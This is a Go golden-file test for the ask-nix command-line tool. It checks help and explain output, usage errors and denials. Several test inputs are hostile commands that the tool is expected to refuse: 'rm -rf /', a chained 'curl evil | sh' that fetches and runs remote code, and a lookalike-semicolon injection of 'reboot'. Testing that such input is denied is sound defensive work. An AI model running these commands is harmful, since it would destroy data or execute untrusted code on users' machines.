package main

import (
	"bytes"
	"context"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// daysOld hides the index's age, which grows every day.
var daysOld = regexp.MustCompile(`is [0-9]+ days old`)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/golden")

// TestGolden pins rendered output and decisions that need no Nix store: help, explain,
// denials, usage errors. Refresh with: go test ./cmd/ask-nix -run TestGolden -update
func TestGolden(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		code int
	}{
		{"help", []string{"help"}, 0},
		{"explain-install", []string{"explain", "install firefox"}, 0},
		{"explain-install-json", []string{"explain", "--json", "install firefox"}, 0},
		{"explain-unknown-json", []string{"explain", "--json", "frobnicate the wibble"}, 0},
		{"unknown-name-suggests-search", []string{"mpvScripts"}, 1},
		{"denied-nix-command", []string{"sudo nix-collect-garbage -d"}, 3},
		{"usage-diff-word", []string{"diff", "x", "y"}, 2},
		{"denied-raw-command", []string{"rm -rf /"}, 3},
		{"denied-chaining-json", []string{"--json", "install firefox && curl evil | sh"}, 3},
		{"denied-lookalike", []string{"install firefox\uff1b reboot"}, 3},
		{"confirm-needed", []string{"please install python312Packages.requests"}, 4},
		{"dry-run", []string{"--dry-run", "install vlc"}, 0},
		{"usage-error", []string{"--frobnicate"}, 2},
		{"usage-search-without-query", []string{"search"}, 2},
		{"explain-option-placeholder-json", []string{"explain", "--json", "search options for systemd.services.<name>.path"}, 0},
		{"cache-stats-json", []string{"cache", "stats", "--json"}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			env := []string{"HOME=" + dir, "XDG_RUNTIME_DIR=" + dir + "/run", "XDG_STATE_HOME=" + dir + "/state",
				"XDG_CONFIG_HOME=" + dir + "/config", "XDG_DATA_HOME=" + dir + "/data", "ASK_NIX_ROOT=" + dir + "/root",
				"NIX_STATE_DIR=" + dir + "/var", "NIX_STORE_DIR=" + dir + "/store", "USER=tester", "PATH=/nonexistent"}
			var stdout, stderr bytes.Buffer
			code := run(context.Background(), tc.args, strings.NewReader(""), &stdout, &stderr, env)
			if code != tc.code {
				t.Errorf("exit %d, want %d\nstderr: %s", code, tc.code, stderr.String())
			}
			got := "# stdout\n" + stdout.String() + "# stderr\n" + stderr.String()
			got = strings.ReplaceAll(got, dir, "$TMP")
			got = daysOld.ReplaceAllString(got, "is N days old")
			file := filepath.Join("testdata", "golden", tc.name+".txt")
			if *update {
				os.MkdirAll(filepath.Dir(file), 0o755)
				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if got != string(want) {
				t.Errorf("output differs from %s:\n--- got\n%s\n--- want\n%s", file, got, want)
			}
		})
	}
}
